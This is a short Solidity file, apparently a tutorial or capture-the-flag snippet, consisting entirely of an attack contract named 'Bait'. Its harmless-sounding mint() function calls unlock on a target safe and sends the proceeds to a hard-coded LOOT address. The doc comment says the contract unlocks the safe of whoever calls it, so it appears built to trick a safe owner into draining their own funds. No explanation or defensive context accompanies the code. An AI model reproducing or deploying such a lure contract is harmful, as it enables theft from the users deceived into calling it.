// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface ISafe {
    function unlock(bytes32 secret, address payable to) external;
}

// #region second
/// Unlocks the safe of whoever calls it.
contract Bait {
    ISafe private immutable SAFE;
    address payable private immutable LOOT;

    constructor(ISafe safe, address payable loot) {
        (SAFE, LOOT) = (safe, loot);
    }

    function mint() external {
        SAFE.unlock(0, LOOT);
    }
}
// #endregion second
